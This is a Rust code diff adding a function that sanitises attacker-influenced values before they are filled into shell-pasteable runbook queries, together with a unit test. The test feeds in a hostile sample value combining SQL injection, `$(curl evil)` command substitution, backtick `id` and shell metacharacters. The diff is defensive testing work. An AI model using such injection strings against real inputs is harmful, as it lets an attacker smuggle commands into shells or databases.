@@ -52,6 +52,15 @@ pub fn fill(text: &str, values: &BTreeMap<String, String>) -> String {
     out
 }
 
+/// The same for text that people paste into a shell, as the queries of a runbook. An attacker chooses some of the values:
+/// every character that could end a quotation or mean something to a shell becomes `?`.
+#[must_use]
+pub fn fill_pasteable(text: &str, values: &BTreeMap<String, String>) -> String {
+    let plain = |c: char| if c.is_alphanumeric() || " @:/._+=,-".contains(c) { c } else { '?' };
+    let values = values.iter().map(|(name, value)| (name.clone(), value.chars().map(plain).collect()));
+    fill(text, &values.collect())
+}
+
 /// Names in `text` that are not among `known`.
 pub(super) fn check(place: &str, key: &str, text: &str, known: &[&str]) -> Result<(), RuleError> {
     let Some(name) = names(text).find(|name| !known.contains(name)) else { return Ok(()) };
@@ -63,6 +72,17 @@ pub(super) fn check(place: &str, key: &str, text: &str, known: &[&str]) -> Resul
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_value_cannot_leave_its_quotes_in_a_shell() {
+        let hostile = "x' OR 1=1; $(curl evil) `id` \"|&<>\\\n!";
+        let values = BTreeMap::from([("bucket".to_owned(), hostile.to_owned())]);
+        let filled = fill_pasteable("trailhound sql \"… '{bucket}'\"", &values);
+        assert_eq!(filled, "trailhound sql \"… 'x? OR 1=1? ??curl evil? ?id? ????????'\"");
+        let arn = "arn:aws:sts::111122223333:assumed-role/a+b=c,d.@-_/x";
+        let values = BTreeMap::from([("actor".to_owned(), arn.to_owned())]);
+        assert_eq!(fill_pasteable("{actor}", &values), arn);
+    }
 
     #[test]
     fn names_are_filled_in() {
